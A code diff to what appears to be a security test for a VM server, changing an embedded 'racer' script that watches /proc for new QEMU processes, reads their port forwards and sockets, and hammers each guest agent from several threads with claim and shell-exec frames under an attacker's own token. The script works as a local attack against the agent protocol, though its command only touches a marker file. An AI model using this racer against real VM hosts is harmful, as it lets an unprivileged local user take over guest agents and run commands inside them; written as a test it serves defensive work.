@@ -22,12 +22,12 @@ from dsec.edge.edge import default_edge_id
 from test_vm import _qemu_pids, _traces
 
 NOBODY = 65534
-# What an unprivileged local user can do against every booting VM of the server: read each
-# QEMU's argv for the agent's port forward and its sockets, then, in a loop, connect to the
-# port and claim the agent with its own token, run a command with that token, and connect to
-# any Unix socket QEMU names. It prints one JSON line per attempt that got an answer.
+# What an unprivileged local user can do against every booting VM of the server: watch for
+# new QEMU processes, read each one's argv for the agent's port forward and its sockets, then
+# hammer the port (a thread each): claim the agent with its own token, run a command with that
+# token; and connect to every Unix socket QEMU names. One JSON line per attempt.
 RACER = r"""
-import json, os, re, socket, struct, sys, time
+import json, os, re, socket, struct, sys, threading, time
 prefix = sys.argv[1].encode()
 def frame(kind, fields):
     body = kind.encode() + b"".join(bytes([len(k)]) + k.encode() + struct.pack(">I", len(v)) + v
@@ -37,38 +37,48 @@ MINE = b"r" * 64
 CLAIM = frame("C", [("token", MINE)])
 EXEC = frame("E", [("token", MINE), ("argv", b"/bin/sh"), ("argv", b"-c"),
                    ("argv", b"touch /work/racer-was-here"), ("mode", b"wait")])
-def targets():
+lock = threading.Lock()
+def report(**what):
+    with lock:
+        sys.stdout.write(json.dumps(what) + "\n")
+        sys.stdout.flush()
+def ask(port, request):
+    try:
+        with socket.create_connection(("127.0.0.1", int(port)), timeout=0.2) as s:
+            s.settimeout(1)
+            s.sendall(request)
+            return s.recv(4096).decode("latin1")
+    except OSError as e:
+        return type(e).__name__
+def hammer(pid, port):  # claim, then run a command, as fast as the port answers
+    while True:
+        for name, request in (("claim", CLAIM), ("exec", EXEC)):
+            report(pid=pid, port=port, what=name, reply=ask(port, request))
+        time.sleep(0.02)
+def unix(pid, path):
+    try:
+        with socket.socket(socket.AF_UNIX) as s:
+            s.connect(path)
+            got = "connected"
+    except OSError as e:
+        got = type(e).__name__
+    report(pid=pid, path=path, what="unix", reply=got)
+seen = set()
+while True:
     for pid in os.listdir("/proc"):
         try:
             argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
         except OSError:
             continue
-        if b"-name" in argv and any(a.startswith(prefix) for a in argv):
-            text = b" ".join(argv).decode()
-            yield pid, re.findall(r"hostfwd=tcp:127\.0\.0\.1:(\d+)", text), re.findall(r"(?:path=|unix:)([^,\s]+)", text)
-def ask(port, request):
-    with socket.create_connection(("127.0.0.1", int(port)), timeout=0.5) as s:
-        s.settimeout(3)
-        s.sendall(request)
-        return s.recv(4096)
-while True:
-    for pid, ports, paths in list(targets()):
-        for port in ports:
-            for name, request in (("claim", CLAIM), ("exec", EXEC)):
-                try:
-                    reply = ask(port, request)
-                except OSError as e:
-                    reply = repr(e).encode()
-                print(json.dumps({"pid": pid, "port": port, "what": name, "reply": reply.decode("latin1")}), flush=True)
-        for path in paths:
-            try:
-                with socket.socket(socket.AF_UNIX) as s:
-                    s.connect(path)
-                    got = "connected"
-            except OSError as e:
-                got = type(e).__name__
-            print(json.dumps({"pid": pid, "path": path, "what": "unix", "reply": got}), flush=True)
-    time.sleep(0.01)
+        if pid in seen or b"-name" not in argv or not any(a.startswith(prefix) for a in argv):
+            continue
+        seen.add(pid)
+        text = b" ".join(argv).decode()
+        for port in re.findall(r"hostfwd=tcp:127\.0\.0\.1:(\d+)", text):
+            threading.Thread(target=hammer, args=(pid, port), daemon=True).start()
+        for path in re.findall(r"(?:path=|unix:)([^,\s]+)", text):
+            unix(pid, path)
+    time.sleep(0.005)
 """
 
 
